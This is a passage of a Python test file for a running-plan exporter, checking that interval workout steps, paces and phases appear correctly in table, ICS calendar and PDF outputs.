    assert intervals["steps"] == (
        "Warm-up 15 min easy, RPE 2–3 | 6 × 800 m at 4:48–5:00 /km, RPE 7–8, 400 m jog"
        " | Cool-down 10 min easy, RPE 2–3"
    )
    assert frame[frame["kind"] == "strength"]["steps"].eq("").all()


def test_ics_description_lists_the_steps(structured: Plan) -> None:
    events = Calendar.from_ical(to_ics(structured, ATHLETE)).walk("VEVENT")
    intervals = str(events[1]["DESCRIPTION"])
    assert str(events[1]["SUMMARY"]) == "Intervals 9 km (55 min)"
    assert intervals.startswith(
        "Week 1\n\n1. Warm-up 15 min easy, RPE 2–3\n"
        "2. 6 × 800 m at 4:48–5:00 /km, RPE 7–8, 400 m jog\n"
        "3. Cool-down 10 min easy, RPE 2–3\n"
    )
    assert intervals.endswith("VO2max")
    assert "1. Easy 40 min at 6:10–7:18 /km or 117–146 bpm" in str(events[4]["DESCRIPTION"])


def test_pdf_shows_the_phase_and_the_steps_of_each_run(structured: Plan) -> None:
    text = pdf_words(to_pdf(structured, ATHLETE))
    assert "build phase" in text and "taper phase" in text
    assert "Runs this week" in text
    assert "Tue 4 Mar: Intervals 9 km (55 min)" in text
    assert "2. 6 × 800 m at 4:48–5:00 /km, RPE 7–8, 400 m jog" in text
    assert "metronome at 172 spm" in text
    assert text.count("Runs this week") == 1  # week 2 has no structured run
